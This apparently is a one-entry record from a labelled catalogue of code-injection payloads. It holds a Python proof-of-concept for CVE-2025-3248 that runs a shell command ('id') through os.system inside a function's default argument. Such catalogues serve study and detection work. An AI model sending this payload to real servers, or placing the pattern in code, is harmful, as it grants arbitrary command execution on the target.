# class: lineage
# mechanism: CVE-2025-3248
# how: CVE-2025-3248: code in a default argument
# reaches: built-in __import__
def f(x=__import__("os").system("id")): pass
